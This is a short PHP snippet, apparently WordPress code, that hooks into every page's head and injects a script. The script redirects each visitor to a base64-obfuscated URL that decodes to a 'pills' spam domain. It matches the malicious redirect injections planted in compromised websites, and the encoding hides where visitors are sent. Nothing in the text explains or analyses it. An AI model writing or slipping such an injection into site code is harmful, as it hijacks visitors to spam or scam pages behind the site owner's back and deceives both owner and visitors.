<?php
add_action('wp_head', function () {
    echo '<script>window["location"]["href"] = decodeURIComponent(escape(window.atob("aHR0cHM6Ly9waWxscy5leGFtcGxlLw==")));</script>';
});
